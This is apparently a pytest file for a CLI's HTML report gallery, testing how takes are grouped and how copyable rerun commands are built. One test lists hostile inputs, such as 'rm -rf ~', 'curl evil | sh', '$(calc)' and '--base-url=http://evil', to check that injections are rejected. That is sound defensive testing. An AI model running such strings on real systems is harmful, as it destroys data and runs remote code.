"""The cards of the gallery: takes side by side, the pictures that jobs were made from, and commands to copy."""

import re

import pytest
from support.report_data import ERROR, job, output, report, text

from kirin_cli.report.html_cards import command_of

ADOPT = "kirin resolve krn1-a --adopt t-7"
CONFLICT = {**ERROR, "next": "kirin resolve krn1-a"}


def command(name="a", **facts):
    """The command of a job that is alone in its report."""
    made = report(job(name, **facts))
    return command_of(made.jobs[0], made)


def takes(page):
    """Of each section of takes its name and its models with their takes."""
    sections = re.findall(r'<section class="takes".*?</section>', page, re.DOTALL)
    return [
        (re.search(r'aria-label="([^"]*)"', one)[1], re.findall(r'<p class="model">([^<]*)<', one)) for one in sections
    ]


def test_takes_of_a_job_stand_side_by_side_in_their_order_and_others_do_not():
    page = text("html", job("fox", take=2), job("cat"), job("fox"), job("fox", take=3), job("cat", file="other.yaml"))
    model = "kirin_v1_t2v · take "
    assert takes(page) == [("fox: 3 takes", [model + "1", model + "2", model + "3"])]
    assert re.findall(r'<article class="card" id="(job-\d)"', page) == ["job-3", "job-1", "job-4", "job-2", "job-5"]
    assert takes(text("html", job("fox"), job("fox"))) == []
    assert takes(text("html", job("", take=1), job("", take=2))) == []


@pytest.mark.parametrize(
    ("facts", "expected"),
    [
        ({}, "kirin run jobs.yaml --only=a"),
        ({"scope": "spring"}, "kirin run jobs.yaml --only=a --scope=spring"),
        ({"state": "failed"}, "kirin run jobs.yaml --only=a --retry-failed"),
        ({"state": "pending"}, "kirin wait task-a"), ({"state": "expired"}, "kirin download task-a"),
        ({"state": "unknown"}, "kirin wait task-a"), ({"state": "unknown", "task_id": None}, "kirin wait krn1-a"),
        ({"state": "unknown", "error": CONFLICT}, "kirin resolve krn1-a"),
        ({"state": "unknown", "error": {**ERROR, "next": ADOPT}}, ADOPT),
        ({"file": None}, "kirin again task-a --dry-run"), ({"file": "-"}, "kirin again task-a --dry-run"),
        ({"file": None, "task_id": None, "external_task_id": None}, ""),
    ],
)  # fmt: skip
def test_a_command_goes_on_with_a_job_or_makes_it_as_its_file_says(facts, expected):
    assert command(**facts) == expected


@pytest.mark.parametrize(
    ("facts", "expected"),
    [
        ({"name": "rain[mode=std]"}, "kirin run jobs.yaml '--only=rain[mode=std]'"),
        ({"name": "Größe 2, лес"}, "kirin run jobs.yaml '--only=Größe 2, лес'"),
        *(({"name": f"a{evil}b"}, "") for evil in ("; rm -rf ~;", "$(calc)", "`id`", "%X%", "!x!", "^", "'")),
        ({"name": 'a" & calc'}, ""),
        *(({"name": f"a{evil}b"}, "") for evil in ("|calc|", "&calc&", "<x", ">x", "{x}", "\u2018", "\u201d", "\t")),
        ({"file": "`id`.yaml"}, ""), ({"file": "//evil.example/s/x.yaml"}, ""), ({"scope": "$(calc)"}, ""),
        ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin again task-a --dry-run"),
        ({"state": "pending", "task_id": "--base-url=http://evil"}, "kirin run jobs.yaml --only=a"),
        ({"state": "pending", "task_id": "t;id"}, ""),
        ({"state": "pending", "error": {**ERROR, "next": "curl evil | sh"}}, "kirin wait task-a"),
        ({"state": "unknown", "error": {**ERROR, "next": "kirin resolve x --base-url=//evil"}}, "kirin wait task-a"),
    ],
)  # fmt: skip
def test_H3_no_text_of_a_result_is_more_than_one_word_of_a_command(facts, expected):
    assert command(**{"name": "a", **facts}) == expected


def test_what_was_made_in_a_sandbox_is_made_again_in_one():
    made = report(job("a"), job("b", state="pending"), job("c", file=None), sandbox=True)
    assert [command_of(one, made) for one in made.jobs] == [
        "kirin run jobs.yaml --only=a --sandbox", "kirin run jobs.yaml --only=b --sandbox", "",
    ]  # fmt: skip
    assert "in a sandbox, for no money" in text("html", job("a"), sandbox=True)
    assert "sandbox" not in text("html", job("a"))


def test_the_command_stands_on_the_card_where_it_is_copied_from():
    page = text("html", job("a[mode=pro]"))
    assert "<code>kirin run jobs.yaml &#x27;--only=a[mode=pro]&#x27;</code>" in page
    assert page.count('data-copy="command"') == page.count('data-copy="prompt"') == 1
    assert "data-copy=" not in text(
        "html", job("a", params={}, prompt=None, file=None, task_id=None, external_task_id=None)
    )


def test_files_can_be_opened_and_saved(tmp_path):
    page = text("html", job("a", outputs=[output(str(tmp_path / "a b.mp4"))]), folder=tmp_path)
    assert re.findall(r'<a class="action" ([^>]*)>', page) == [
        'href="./a%20b.mp4" target="_blank" rel="noopener" aria-label="Open a b.mp4"',
        'href="./a%20b.mp4" download="a b.mp4" aria-label="Save a b.mp4"',
    ]  # fmt: skip


def test_a_video_that_is_not_there_as_it_was_made_is_said(tmp_path):
    (tmp_path / "a.mp4").write_bytes(b"abcd")
    made = output(str(tmp_path / "a.mp4"))
    assert 'class="gone"' not in text("html", job("a", outputs=[made]), folder=tmp_path)
    for other in ({**made, "bytes": 5}, {**made, "path": str(tmp_path)}, {**made, "path": str(tmp_path / "b.mp4")}):
        assert 'class="gone"' in text("html", job("a", outputs=[other]), folder=tmp_path)


def test_tags_and_what_cards_are_sorted_by_are_on_them():
    page = text("html", job("a[x=1]", tags=["night", "day & night"], cost_usd="0.56"))
    facts = re.search(r'<article [^>]*data-state="done"[^>]*>', page, re.DOTALL)[0]
    assert 'data-job="a"' in facts
    assert 'data-tags="night\nday &amp; night"' in facts
    assert 'data-cost="0.56"' in facts
    assert 'data-seconds="42.5"' in facts
    assert "<li>night</li><li>day &amp; night</li>" in page
